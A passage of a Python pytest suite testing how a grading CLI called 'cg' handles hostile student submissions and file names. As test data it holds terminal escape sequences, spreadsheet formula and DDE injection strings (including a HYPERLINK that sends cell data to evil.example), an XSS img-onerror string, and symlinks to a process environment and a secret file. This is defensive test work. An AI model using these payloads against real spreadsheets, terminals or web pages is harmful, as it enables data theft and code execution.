"""A class is untrusted input: hostile sheets, names and file names, resource exhaustion,
signals and concurrent writers (docs/security.md says what cg promises).

Each table is a catalogue, as in test_errors.py: a case, what cg is given, and the exact
exit code and message expected. The cases run the way a hostile student and an unlucky
teacher would: in an empty folder, through the command line.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from cgcli.core.untrusted import (
    from_spreadsheet_cell,
    json_text,
    markdown_code,
    spreadsheet_cell,
    visible,
)

P = "c = a + b; d = b + 1; e = c * d"
AT = ("a=2", "b=1")
QZ = ("q = x + y; f = q * z", "x=-2", "y=5", "z=-4")
ESCAPES = ("\x1b", "\x07", "\x9b", "\u202e", "\x00")
"""What must never reach a terminal raw: ESC, BEL, CSI, a right-to-left override, NUL."""


def _raw_controls(text: str) -> list[str]:
    return [ch for ch in ESCAPES if ch in text]


def cases(table: list[tuple]) -> list:
    """The rows of a catalogue as test cases, each named by its first cell."""
    return [pytest.param(*row[1:], id=row[0]) for row in table]


# --- the shared helpers ---------------------------------------------------------------

VISIBLE = [
    ("plain text", "Ada Lovelace", "Ada Lovelace"),
    ("clipboard write (OSC 52)", "\x1b]52;c;ZXZpbA==\x07", "␛]52;c;ZXZpbA==␇"),
    ("window title (OSC 0)", "\x1b]0;pwned\x07", "␛]0;pwned␇"),
    (
        "hyperlink (OSC 8)",
        "\x1b]8;;http://evil\x1b\\x\x1b]8;;\x1b\\",
        "␛]8;;http://evil␛\\x␛]8;;␛\\",
    ),
    ("newline forging a row", "x\nAda  7 of 7", "x␊Ada  7 of 7"),
    ("carriage return", "ok\rEve", "ok␍Eve"),
    ("NUL and DEL", "a\x00b\x7f", "a␀b␡"),
    ("C1 control sequence introducer", "\x9b31m", "\\x9b31m"),
    ("right-to-left override", "abc\u202edef", "abc\\u202edef"),
    ("zero-width space", "a\u200bb", "a\\u200bb"),
    ("line separator", "a\u2028b", "a\\u2028b"),
    ("a byte that was not UTF-8", "bad\udcffname", "bad\\xffname"),
]


@pytest.mark.parametrize(("text", "shown"), cases(VISIBLE))
def test_visible(text, shown):
    assert visible(text) == shown
    assert visible(shown) == shown  # already visible: left as it is


SPREADSHEET = [
    ("a formula", '=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
    ("DDE through +", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("a minus formula", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("an at-sign function", "@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"),
    ("a leading tab, made visible", "\t=1+1", "␉=1+1"),
    ("a leading carriage return, made visible", "\r=1+1", "␍=1+1"),
    ("a negative number", "-3", "-3"),
    ("a signed decimal", "+0.25", "+0.25"),
    ("a number in E notation", "-1.5e-3", "-1.5e-3"),
    ("text", "alice", "alice"),
    ("a formula sign inside", "a=b+c", "a=b+c"),
    ("not a number after a minus", "-x", "'-x"),
]


@pytest.mark.parametrize(("cell", "safe"), cases(SPREADSHEET))
def test_spreadsheet_cell(cell, safe):
    assert spreadsheet_cell(cell) == safe
    if "\t" not in cell and "\r" not in cell:
        assert from_spreadsheet_cell(safe) == cell  # a sheet written so reads back


MARKDOWN_CODE = [
    ("no backtick", "x + y", "`x + y`"),
    ("a backtick", "x # `<img src=x onerror=alert(1)>", "``x # `<img src=x onerror=alert(1)>``"),
    ("a run of three", "a ``` b", "````a ``` b````"),
    ("starts with a backtick", "`x", "`` `x ``"),
    ("a line break", "a\nb", "`a b`"),
]


@pytest.mark.parametrize(("text", "span"), cases(MARKDOWN_CODE))
def test_markdown_code(text, span):
    assert markdown_code(text) == span


def test_json_text_escapes_what_a_terminal_would_act_on():
    text = json_text({"student": "x\x9b31m\u202ey\x1b", "file": "bad\udcff.json"}, indent=None)
    assert text == '{"student": "x\\u009b31m\\u202ey\\u001b", "file": "bad\\\\xff.json"}'
    assert json.loads(text) == {"student": "x\x9b31m\u202ey\x1b", "file": "bad\\xff.json"}


# --- 1. formulas in the gradebook --------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
INJECTIONS = [
    ("text sheet: Student line", "a.txt", f"Student: {FORMULA}\nc = 3\n", FORMULA),
    (
        "JSON: student field",
        "b.json",
        json.dumps({"student": "+cmd|' /C calc'!A0", "c": 3}),
        "+cmd ' /C calc'!A0",
    ),
    ("file name", "@SUM(1+1)*cmd.json", '{"c": 3}', "@SUM(1+1)*cmd"),
    ("CSV sheet: # student line", "d.csv", "# student: -2+3+cmd\nnode,value\nc,3\n", "-2+3+cmd"),
    (
        "Markdown sheet: Student line",
        "e.md",
        "Student: =1+2\n\n| node | value |\n| --- | --- |\n| c | 3 |\n",
        "=1+2",
    ),
    (
        "LaTeX sheet: Student line",
        "f.tex",
        "% Student: @cmd\n\\begin{tabular}{ll}\nnode & value \\\\\nc & 3 \\\\\n\\end{tabular}\n",
        "@cmd",
    ),
    ("JSON: a key that is no node", "g.json", '{"c": 3, "=cmd()": 1}', "g"),
    ("a tab first", "h.json", json.dumps({"student": "\t=1+1", "c": 3}), "=1+1"),
]


@pytest.mark.parametrize(("name", "content", "student"), cases(INJECTIONS))
def test_no_formula_reaches_a_gradebook_cell(cg, tmp_path, name, content, student):
    """Every cell starting = + - @, a tab or a carriage return gets a leading ' (OWASP)."""
    folder = tmp_path / "s"
    folder.mkdir()
    (folder / name).write_text(content, encoding="utf-8")
    (folder / "zz.txt").write_text("c = 4\n")  # a wrong answer: a verdict with a mistake
    book = tmp_path / "g.csv"
    result = cg("check", P, *AT, "--answers", str(folder), "--summary", str(book))
    assert result.exit_code == 1, result.stderr
    rows = list(csv.reader(io.StringIO(book.read_text(encoding="utf-8"))))
    assert rows[0] == ["student", "file", "score", "asked", "points", "max_points", "note", "c"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert from_spreadsheet_cell(rows[1][0]).replace("␉", "") == student


# --- 2. escape sequences: shown, never run --------------------------------------------

OSC52 = "\x1b]52;c;ZXZpbA==\x07"


def test_escape_sequences_in_student_names_and_file_names(cg, tmp_path):
    folder = tmp_path / "s"
    folder.mkdir()
    (folder / "a.txt").write_text(f"Student: {OSC52}Eve\nc = 3\n")
    (folder / "b.txt").write_text("Student: \x1b]0;title\x07\x1b]8;;http://x\x1b\\link\nc = 3\n")
    (folder / "x\nAda Lovelace     7 of 7 asked.txt").write_text("c = 3\n")
    (folder / "\x1b[2Jclear.txt").write_text("c = 3\n")
    result = cg("check", P, *AT, "--answers", str(folder))
    assert result.exit_code == 0, result.stderr
    assert _raw_controls(result.stdout + result.stderr) == []
    assert result.stdout.splitlines()[:5] == [
        "student                          score         wrong",
        "␛[2Jclear                        1 of 1 asked",
        "␛]52;c;ZXZpbA==␇Eve              1 of 1 asked",
        "␛]0;title␇␛]8;;http://x␛\\link    1 of 1 asked",
        "x␊Ada Lovelace     7 of 7 asked  1 of 1 asked",
    ]
    doc = json.loads(cg("check", P, *AT, "--answers", str(folder), "--format", "json").stdout)
    assert [s["student"] for s in doc["students"]][1] == f"{OSC52}Eve"  # the data, escaped JSON


ECHOED = [
    (
        "a JSON key with ESC",
        ["check", P, *AT, "--answers", "{sheet}"],
        ("s.json", '{"c\\u001b[31m": 3, "c": 3}'),
        0,
        "cg: warning: answer c␛[31m: no node is called c␛[31m (nodes: a, b, c, d, e)\n",
    ),
    (
        "a CSV header with NUL",
        ["eval", "x*z", "--points", "{sheet}"],
        ("d.csv", "x\x00y,z\n1,2\n"),
        2,
        "cg: usage error: the points have no column x (columns: x␀y, z); give it as NAME=VALUE "
        "or add it\n",
    ),
    (
        "a CSV header with ESC, not used",
        ["eval", "z", "--points", "{sheet}", "--format", "csv", "--no-check"],
        ("d.csv", "\x1b]0;t\x07,z\n1,2\n"),
        0,
        "cg: warning: column ␛]0;t␇ is not used by the program (--keep ␛]0;t␇ carries it through)\n",
    ),
    (
        "an answer with ESC",
        ["check", *QZ, "--expect", "q=\x1b[31m3"],
        None,
        1,
        "cg: warning: --expect: answer q: '␛[31m3' is not a number or formula (unexpected "
        "character '\\x1b' (U+001B))\n",
    ),
    (
        "a comment with OSC 52 in a syntax error",
        ["eval", f"(x + # {OSC52}"],
        None,
        2,
        "cg: syntax error: 1:24: unexpected end of input: expected a number, a name or '('\n"
        "  (x + # ␛]52;c;ZXZpbA==␇\n" + " " * 25 + "^\n",
    ),
    (
        "a sheet file name with ESC, not found",
        ["check", P, *AT, "--answers", "\x1b]0;t\x07.json"],
        None,
        2,
        "cg: usage error: cannot read the answer sheet from ␛]0;t␇.json: no such file\n",
    ),
    (
        "an option value with ESC",
        ["eval", "x", "x=1", "--format", "\x1b[2J"],
        None,
        2,
        "cg: usage error: invalid value for '--format': '\\x1b[2J' is not one of 'table', "
        "'json', 'csv', 'tsv', 'jsonl', 'markdown', 'latex', 'parquet', 'arrow' "
        "(see 'cg eval --help')\n",
    ),
]


@pytest.mark.parametrize(("args", "sheet", "code", "stderr"), cases(ECHOED))
def test_every_echoed_name_is_visible(cg, tmp_path, args, sheet, code, stderr):
    if sheet is not None:
        name, content = sheet
        (tmp_path / name).write_text(content, encoding="utf-8")
        args = [a.replace("{sheet}", str(tmp_path / name)) for a in args]
    result = cg(*args)
    assert (result.exit_code, result.stderr) == (code, stderr)
    assert _raw_controls(result.stdout) == []


def test_a_program_comment_shows_visible_on_a_terminal_table():
    """The rich table's title shows the program: a comment's escape is drawn, not run."""
    from rich.console import Console

    from cgcli import evaluate
    from cgcli.render.table import print_rich

    console = Console(file=io.StringIO(), force_terminal=True, width=100)
    print_rich(evaluate(f"x*2 # [link=http://evil]{OSC52}", {"x": 1}), 6, ["x"], console)
    shown = console.file.getvalue()
    assert "cg: x*2 # [link=http://evil]␛]52;c;ZXZpbA==␇" in shown
    assert OSC52 not in shown and "\x1b]8;" not in shown  # no escape, no hyperlink


# --- 3. one student cannot stall the class -------------------------------------------

STALL = "0*(1+1/10^9)^(10^9) + x + y"


def test_a_stalling_formula_is_over_the_budget(cg, stepping_clock):
    """Built exactly, (1+1/10^9)^(10^9) has nine billion digits: SymPy would take minutes.
    On a clock of 1 s per read its 5 s budget runs out at once."""
    result = cg("check", *QZ, "--expect", f"dz={STALL}, q=3")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "answer                        given  correct  grade",
        "q                                 3        3  ✓ right",
        "∂f/∂z   0*(1+1/10^9)^(10^9) + x + y        3  ✗ could not be evaluated (over the "
        "budget): SymPy did not finish comparing '0*(1+1/10^9)^(10^9) + x + y' with ∂f/∂z in "
        "the time an answer may take",
        "1 of 2 asked right",
    ]


def _stalling_sympy(monkeypatch, answer_seconds: float, sheet_seconds: float) -> None:
    """SymPy that never finishes a comparison, under a small budget: over it, always."""
    from cgcli.grading import formulas

    def forever(*args):
        time.sleep(600)  # in a worker that is stopped: it never returns

    monkeypatch.setattr(formulas.Symbolic, "_compare", forever)
    monkeypatch.setattr(formulas, "ANSWER_SECONDS", answer_seconds)
    monkeypatch.setattr(formulas, "SHEET_SECONDS", sheet_seconds)


def test_the_class_goes_on_and_the_gradebook_is_written(cg, tmp_path, monkeypatch, stepping_clock):
    _stalling_sympy(monkeypatch, 0.2, 0.3)
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "eve.txt").write_text("dz = x + y\ndx = z\ndy = z\nq = 3\n")
    (folder / "ada.txt").write_text("q = 3\nf = -12\n")
    book = tmp_path / "book.csv"
    result = cg("check", *QZ, "--answers", str(folder), "--summary", str(book))
    assert result.exit_code == 1
    rows = list(csv.reader(io.StringIO(book.read_text())))
    assert rows[1][:4] == ["ada", str(folder / "ada.txt"), "2", "2"]
    assert rows[2][:4] == ["eve", str(folder / "eve.txt"), "1", "4"]
    assert rows[2][-3:] == ["wrong (over the budget)"] * 3  # its sheet's budget spent


# --- 4. links and special files in a class folder -------------------------------------

LINKED = [
    ("a link out of the folder, to a secret", "m.txt", "../secret.txt", "a symbolic link"),
    ("a link to the process's environment", "env.txt", "/proc/self/environ", "a symbolic link"),
    ("a link to a folder", "dir.md", "/tmp", "a symbolic link"),
    ("a link to itself", "loop.json", "loop.json", "a symbolic link"),
    ("a dangling link", "gone.csv", "nowhere.csv", "a symbolic link"),
]
SKIPPED_LINK = "a symbolic link: cg does not follow links to answer sheets in a class"
SKIPPED_SPECIAL = "not a regular file (a folder, a named pipe or a device): it is not read"


@pytest.mark.parametrize(("name", "target", "why"), cases(LINKED))
def test_a_link_in_a_class_is_skipped_with_a_note(cg, tmp_path, name, target, why):
    (tmp_path / "secret.txt").write_text("c = AKIA-SECRET-TOKEN-123\n")
    folder = tmp_path / "s"
    folder.mkdir()
    (folder / "ok.txt").write_text("c = 3\n")
    os.symlink(target, folder / name)
    book = tmp_path / "g.csv"
    result = cg("check", P, *AT, "--answers", str(folder), "--summary", str(book))
    assert result.exit_code == 0
    assert result.stderr == f"cg: warning: {folder / name}: skipped: {SKIPPED_LINK}\n"
    assert result.stdout.splitlines()[-1] == "1 sheet graded, 1 all right, 1 skipped"
    everything = result.stdout + book.read_text()
    assert "AKIA" not in everything and "SHELL" not in everything and "PATH=" not in everything
    assert f"{Path(name).stem},{folder / name},,,,,skipped: {SKIPPED_LINK}," in book.read_text()


def test_special_files_in_a_class_are_skipped(cg, tmp_path):
    folder = tmp_path / "s"
    folder.mkdir()
    (folder / "ok.txt").write_text("c = 3\n")
    os.mkfifo(folder / "pipe.csv")
    (folder / "sub.json").mkdir()
    result = cg("check", P, *AT, "--answers", str(folder))
    assert result.exit_code == 0
    assert result.stderr.splitlines() == [
        f"cg: warning: {folder / 'pipe.csv'}: skipped: {SKIPPED_SPECIAL}",
        f"cg: warning: {folder / 'sub.json'}: skipped: a folder: cg grades the sheets of the "
        "folder given, not of the folders in it",
    ]


def test_nothing_a_student_hands_in_is_passed_over_in_silence(cg, tmp_path):
    """A file of another format, with no extension, a folder, a hidden sheet: each is
    said, on screen and in the gradebook (a submission simply disappeared); only hidden
    files of no sheet format (.DS_Store) are left out."""
    folder = tmp_path / "s"
    (folder / "sub").mkdir(parents=True)
    for name in ("dan.txt", "bob", "gus.docx", ".hidden.txt", "sub/alice.txt"):
        (folder / name).write_text("student: x\nc = 3\n")
    (folder / ".DS_Store").write_bytes(b"\0\1")
    book = tmp_path / "book.csv"
    result = cg("check", P, *AT, "--answers", str(folder), "--summary", str(book))
    assert result.exit_code == 0
    formats = "not a sheet's format: cg reads .csv, .json, .markdown, .md, .tab, .tex, .tsv, .txt"
    assert result.stderr.splitlines() == [
        f"cg: warning: {folder / 'sub'}: skipped: a folder: cg grades the sheets of the folder "
        "given, not of the folders in it",
        f"cg: warning: {folder / '.hidden.txt'}: skipped: a hidden file (its name starts with a "
        "dot): name it without the dot to grade it",
        f"cg: warning: {folder / 'bob'}: skipped: {formats} files",
        f"cg: warning: {folder / 'gus.docx'}: skipped: {formats} files",
    ]
    assert result.stdout.splitlines()[-1] == "1 sheet graded, 1 all right, 4 skipped"
    rows = list(csv.reader(book.open(encoding="utf-8")))
    assert [r[1] for r in rows[1:]] == [
        str(folder / n) for n in ("dan.txt", "sub", ".hidden.txt", "bob", "gus.docx")
    ]


def test_links_among_several_named_sheets_are_skipped_one_named_alone_is_read(cg, tmp_path):
    (tmp_path / "real.txt").write_text("c = 3\n")
    os.symlink("real.txt", tmp_path / "link.txt")
    (tmp_path / "other.txt").write_text("c = 3\n")
    both = cg("check", P, *AT, "--answers", str(tmp_path / "link.txt"), str(tmp_path / "other.txt"))
    assert both.stderr == f"cg: warning: {tmp_path / 'link.txt'}: skipped: {SKIPPED_LINK}\n"
    alone = cg("check", P, *AT, "--answers", str(tmp_path / "link.txt"))
    assert (alone.exit_code, alone.stdout.splitlines()[-1]) == (0, "1 of 1 asked right")


SPECIAL_SHEETS = [
    (
        "a named pipe",
        "fifo",
        "cg: usage error: cannot read the answer sheet from {path}: it is a named pipe, which "
        "would wait for a writer; give a file, or '-' to read standard input\n",
    ),
    (
        "endless zeros",
        "/dev/zero",
        "cg: usage error: the answer sheet in /dev/zero is longer than the limit of "
        "16,777,216 bytes (a sheet is a short text)\n",
    ),
    ("empty", "/dev/null", "cg: usage error: /dev/null is empty (expected the answer sheet)\n"),
    (
        "a binary file",
        "binary",
        "cg: usage error: {path} is not a text file (a NUL byte at character 6); save the sheet "
        "as CSV, Markdown, JSON, LaTeX or text\n",
    ),
    (
        "over 16 MiB",
        "huge",
        "cg: usage error: the answer sheet in {path} is longer than the limit of 16,777,216 "
        "bytes (a sheet is a short text)\n",
    ),
]


@pytest.mark.parametrize(("name", "stderr"), cases(SPECIAL_SHEETS))
def test_a_sheet_that_is_no_sheet(cg, tmp_path, name, stderr):
    path = tmp_path / name if not name.startswith("/") else Path(name)
    if name == "fifo":
        os.mkfifo(path)
    elif name == "binary":
        path.write_bytes(b"c = 3\x00\x01\x02")
    elif name == "huge":
        path.write_bytes(b"c = 3\n" * (3 * 1024 * 1024))
    result = cg("check", P, *AT, "--answers", str(path))
    assert (result.exit_code, result.stderr) == (2, stderr.replace("{path}", str(path)))


@pytest.mark.parametrize(
    ("name", "text", "line"),
    [
        ("long.csv", "node,value,grad\nc," + "3" * 200_000 + ",\n", "line 2: not readable as CSV"),
        ("open.tsv", 'node\tvalue\tgrad\nc\t"3' + "\n" * 10 + "x" * 140_000, "line 12: not "
         "readable as TSV"),
    ],
)  # fmt: skip
def test_a_field_beyond_the_csv_modules_limit_is_that_sheet_not_graded(
    cg, tmp_path, name, text, line
):
    """A cell of 200,000 digits, or a quote never closed, in a sheet well under the 16 MiB
    limit: that sheet is not graded, the others are (it was an internal error, exit 4)."""
    (tmp_path / name).write_text(text, encoding="utf-8")
    (tmp_path / "ada.txt").write_text("student: Ada\nc = 3\n", encoding="utf-8")
    result = cg("check", P, *AT, "--answers", str(tmp_path), "--format", "json")
    doc = json.loads(result.stdout)
    assert (result.exit_code, [s["student"] for s in doc["students"]]) == (2, ["Ada"])
    (error,) = doc["errors"]
    path = str(tmp_path / name)
    assert error == {
        "file": path,
        "error": f"{path}: {line} (field larger than field limit (131072))",
    }


PIPE = (
    "it is a named pipe, which would wait for a writer; give a file, or '-' to read standard input"
)
FIFO_INPUTS = [
    ("eval -f", ["eval", "-f", "{fifo}", "x=1"], "the program"),
    ("eval -f a link to it", ["eval", "-f", "{link}", "x=1"], "the program"),
    ("check -f", ["check", "-f", "{fifo}", *AT, "--expect", "c=3"], "the program"),
    ("check --weights", ["check", P, *AT, "--answers", "{sheet}", "--weights", "{fifo}"], "the weights"),
    ("check --variants", ["check", P, *AT, "--answers", "{sheet}", "--variants", "{fifo}"], "the variants file"),
    ("sheet --roster", ["sheet", P, *AT, "--roster", "{fifo}", "--seed", "1", "-o", "{out}"], "the roster"),
    ("train -f", ["train", "-f", "{fifo}", "--data", "{sheet}", "--target", "y", "--params", "w"], "the program"),
]  # fmt: skip


@pytest.mark.parametrize(("args", "what"), cases(FIFO_INPUTS))
def test_a_named_pipe_is_refused_as_a_text_input(cg, tmp_path, args, what):
    """A named pipe would wait for a writer forever: every program, sheet, weights,
    roster or variants file refuses it at once, and names it (stdin '-' is read)."""
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    os.symlink(fifo, tmp_path / "link")
    (tmp_path / "a.txt").write_text("c = 3\n")
    names = {"fifo": str(fifo), "link": str(tmp_path / "link"), "sheet": str(tmp_path / "a.txt")}
    names["out"] = str(tmp_path / "out")
    result = cg(*[a.format(**names) for a in args])
    path = names["link" if "{link}" in args else "fifo"]
    assert (result.exit_code, result.stderr) == (
        2,
        f"cg: usage error: cannot read {what} from {path}: {PIPE}\n",
    )


def test_a_program_from_standard_input_is_read(cg):
    result = cg("eval", "-f", "-", "x=1", "--no-check", input="x*3\n")
    assert result.exit_code == 0 and "3" in result.stdout.splitlines()[-2]


# --- 5. Markdown cannot carry live HTML ----------------------------------------------


def test_a_program_comment_cannot_end_the_code_span_of_a_markdown_sheet(cg):
    from markdown_it import MarkdownIt

    program = "q = x + y # `<img src=x onerror=alert(1)>\nf = q*z"
    result = cg("sheet", program, "x=1", "y=2", "z=3")
    assert "Program: ``q = x + y; f = q*z  # `<img src=x onerror=alert(1)>``" in result.stdout
    html = MarkdownIt("commonmark").enable("table").render(result.stdout)
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


# --- 6. file names shown escaped: covered by test_escape_sequences... above -------------

# --- 7. no file lost: an output that is also an input is refused ---------------------

OVER_INPUTS = [
    ("eval -o over --points", ["eval", "x*y", "--points", "{d}", "-o", "{d}"], "-o {d} is also the input --points {d}"),
    ("eval -o over -f", ["eval", "-f", "{p}", "--points", "{d}", "-o", "{p}"], "-o {p} is also the input -f {p}"),
    ("eval -o a link to --points", ["eval", "x*y", "--points", "{d}", "-o", "{link}"], "-o {link} is also the input --points {d}"),
    ("eval -o a hard link to --points", ["eval", "x*y", "--points", "{hard}", "-o", "{d}"], "-o {d} is also the input --points {hard}"),
    ("graph -o over -f", ["graph", "-f", "{p}", "-o", "{p}"], "-o {p} is also the input -f {p}"),
    ("page -o over -f", ["page", "-f", "{p}", "x=1", "y=2", "-o", "{p}"], "-o {p} is also the input -f {p}"),
    ("train --history over --data", ["train", "w*x", "--data", "{d}", "--target", "y", "--params", "w=0", "--history", "{d}"], "--history {d} is also the input --data {d}"),
    ("train --history over -f", ["train", "-f", "{w}", "--data", "{d}", "--target", "y", "--params", "w=0", "--history", "{w}"], "--history {w} is also the input -f {w}"),
    ("check --summary over a sheet of the folder", ["check", P, *AT, "--answers", "{o}", "--summary", "{alice}"], "--summary {alice} is also the input --answers {alice}"),
    ("check --summary over a named sheet", ["check", P, *AT, "--answers", "{alice}", "{bob}", "--summary", "{bob}"], "--summary {bob} is also the input --answers {bob}"),
    ("check --summary over --weights", ["check", P, *AT, "--answers", "{o}", "--weights", "{weights}", "--summary", "{weights}"], "--summary {weights} is also the input --weights {weights}"),
    ("check --summary over -f", ["check", "-f", "{p}", *AT, "--answers", "{o}", "--summary", "{p}"], "--summary {p} is also the input -f {p}"),
    ("check --summary over --variants", ["check", P, "--variants", "{variants}", "--answers", "{alice}", "--summary", "{variants}"], "--summary {variants} is also the input --variants {variants}"),
    ("check --class-drawing over a sheet", ["check", P, *AT, "--answers", "{page}", "--class-drawing", "{page}"], "--class-drawing {page} is also the input --answers {page}"),
    ("check --summary over --roster", ["check", P, *AT, "--answers", "{o}", "--summary", "{canvas}", "--summary-format", "canvas", "--roster", "{canvas}"], "--summary {canvas} is also the input --roster {canvas}"),
]  # fmt: skip


@pytest.mark.parametrize(("args", "message"), cases(OVER_INPUTS))
def test_an_output_over_an_input_is_refused(cg, tmp_path, args, message):
    o = tmp_path / "o"
    o.mkdir()
    files = {
        "d": tmp_path / "d.csv",
        "p": tmp_path / "p.txt",
        "w": tmp_path / "w.txt",
        "alice": o / "alice.csv",
        "bob": o / "bob.txt",
        "weights": tmp_path / "weights.csv",
        "variants": o / "variants.csv",
        "canvas": tmp_path / "canvas.csv",
        "page": tmp_path / "sheet.html",
    }
    files["d"].write_text("x,y\n1,2\n2,4\n")
    files["p"].write_text("c = a + b; d = b + 1; e = c * d; x*y\n")
    files["w"].write_text("w*x\n")
    files["alice"].write_text("node,value\nc,3\n")
    files["bob"].write_text("c = 3\n")
    files["weights"].write_text("answer,weight\nc,2\n")
    files["page"].write_text("c = 3\n")  # a sheet of KEY = NUMBER lines, named .html
    files["variants"].write_text("student,seed,sheet,a,b\nalice,1,alice.csv,2,1\n")
    files["canvas"].write_text(  # a Canvas gradebook export, which is also an import
        "Student,ID,SIS User ID,SIS Login ID,Section,Homework 1 (111)\n"
        "    Points Possible,,,,,10\n"
        '"Liddell, Alice",1001,S1,alice,A,9\n'
    )
    os.symlink(files["d"], tmp_path / "link.csv")
    os.link(files["d"], tmp_path / "hard.csv")
    names = {k: str(v) for k, v in files.items()}
    names |= {"o": str(o), "link": str(tmp_path / "link.csv"), "hard": str(tmp_path / "hard.csv")}
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    result = cg(*[a.format(**names) for a in args])
    expected = message.format(**names)
    assert (result.exit_code, result.stderr) == (
        2,
        f"cg: usage error: {expected}: cg does not write over what it reads; give the output "
        "another name\n",
    )
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before


MISSING_FOLDER = [
    ("eval -o over --points", ["eval", "x*y", "--points", "{d}", "-o", "{nox}/../d.csv"], "-o {nox}/../d.csv: the folder {nox}/.. does not exist"),
    ("check --summary over the single sheet", ["check", P, *AT, "--answers", "{alice}", "--summary", "{nox}/../o/alice.csv"], "--summary {nox}/../o/alice.csv: the folder {nox}/../o does not exist"),
    ("check --summary over a sheet of the folder", ["check", P, *AT, "--answers", "{o}", "--summary", "{o}/nox/../alice.csv"], "--summary {o}/nox/../alice.csv: the folder {o}/nox/.. does not exist"),
    ("check --class-drawing", ["check", P, *AT, "--answers", "{o}", "--class-drawing", "{nox}/../c.svg"], "--class-drawing {nox}/../c.svg: the folder {nox}/.. does not exist"),
    ("check --drawings", ["check", P, *AT, "--answers", "{o}", "--drawings", "{nox}/../dr"], "--drawings {nox}/../dr: the folder {nox}/.. does not exist"),
    ("train --history over --data", ["train", "w*x", "--data", "{d}", "--target", "y", "--params", "w=0", "--history", "{nox}/../d.csv"], "--history {nox}/../d.csv: the folder {nox}/.. does not exist"),
    ("graph -o over -f", ["graph", "-f", "{p}", "-o", "{nox}/../p.txt"], "-o {nox}/../p.txt: the folder {nox}/.. does not exist"),
    ("page -o over -f", ["page", "-f", "{p}", "x=1", "y=2", "-o", "{nox}/../p.txt"], "-o {nox}/../p.txt: the folder {nox}/.. does not exist"),
    ("example-data -o", ["example-data", "line", "-o", "{nox}/../d.csv"], "-o {nox}/../d.csv: the folder {nox}/.. does not exist"),
    ("a file for a folder", ["eval", "x*y", "--points", "{d}", "-o", "{d}/../d.csv"], "-o {d}/../d.csv: the folder {d}/.. does not exist"),
]  # fmt: skip


@pytest.mark.parametrize(("args", "message"), cases(MISSING_FOLDER))
def test_an_output_through_a_missing_folder_is_refused(cg, tmp_path, args, message):
    """The system finds "nox/../d.csv" only when nox exists: cg refuses it before any
    work, as the system would, and never writes the file that ".." names instead."""
    o = tmp_path / "o"
    o.mkdir()
    (tmp_path / "d.csv").write_text("x,y\n1,2\n2,4\n")
    (tmp_path / "p.txt").write_text("c = a + b; d = b + 1; e = c * d; x*y\n")
    (o / "alice.csv").write_text("node,value\nc,3\n")
    names = {"o": str(o), "d": str(tmp_path / "d.csv"), "p": str(tmp_path / "p.txt")}
    names |= {"alice": str(o / "alice.csv"), "nox": str(tmp_path / "nox")}
    entries = sorted(tmp_path.rglob("*"))
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    result = cg(*[a.format(**names) for a in args])
    assert (result.exit_code, result.stderr) == (
        2,
        f"cg: usage error: {message.format(**names)}\n",
    )
    assert sorted(tmp_path.rglob("*")) == entries
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before


def test_an_earlier_gradebook_in_the_folder_is_replaced_not_graded(cg, tmp_path):
    folder = tmp_path / "o"
    folder.mkdir()
    (folder / "alice.txt").write_text("c = 3\n")
    for _ in range(2):
        result = cg("check", P, *AT, "--answers", str(folder), "--summary", str(folder / "g.csv"))
        assert (result.exit_code, result.stdout.splitlines()[-1]) == (
            0,
            "1 sheet graded, 1 all right",
        )
    assert (folder / "g.csv").read_text().splitlines()[1].startswith("alice,")


# --- 8. two writers, one output: the first wins whole, the other says so --------------


def test_a_file_written_meanwhile_is_not_replaced(tmp_path):
    from cgcli.core.errors import CgError
    from cgcli.core.files import check_writable, forget_outputs, written_whole

    for existed in (False, True):
        target = tmp_path / f"out{existed}.csv"
        if existed:
            target.write_text("old\n")
        check_writable(str(target), "-o")  # the run starts
        with pytest.raises(CgError) as caught, written_whole(str(target), "-o") as out:
            out.write(b"mine\n")
            target.write_text("theirs, whole\n")  # another run finishes first
        assert caught.value.exit_code == 2
        assert caught.value.message == (
            f"-o {target}: another program wrote this file while cg was working; it was left "
            "as that program wrote it, and this result was not written"
        )
        assert target.read_text() == "theirs, whole\n"
        forget_outputs()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["outFalse.csv", "outTrue.csv"]


def test_a_dask_folder_is_taken_over_whole_or_not_at_all(tmp_path):
    from cgcli.core.errors import CgError
    from cgcli.data.dask_engine import staging_folder, take_over

    names = ["part.0.parquet", "part.1.parquet"]

    def run(out: Path, tag: str) -> None:
        with staging_folder(str(out)) as staging:
            for name in names:
                Path(staging, name).write_text(tag)
            take_over(staging, str(out), names)

    new = tmp_path / "new"
    run(new, "first")
    assert sorted(p.name for p in new.iterdir()) == names
    with pytest.raises(CgError, match="another run wrote its result to this folder"):
        run(new, "second")
    assert {p.read_text() for p in new.iterdir()} == {"first"}  # never mixed
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "README").write_text("mine")
    run(empty, "third")
    assert sorted(p.name for p in empty.iterdir()) == ["README", *names]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty", "new"]  # no staging left


def _dask_or_skip():
    try:
        import distributed  # noqa: F401
    except ImportError:
        from real_parts import python_part

        python_part("Dask", "dask[dataframe], distributed")


def _parts(folder: Path, rows: int, scale: float, count: int = 2) -> None:
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    folder.mkdir()
    for i in range(count):
        x = np.arange(rows, dtype=np.float64) * scale + i
        pq.write_table(pa.table({"x": x}), folder / f"p{i}.parquet")


def _default_signals() -> None:
    """In the child: the signals as a shell leaves them (a test runner may ignore SIGINT)."""
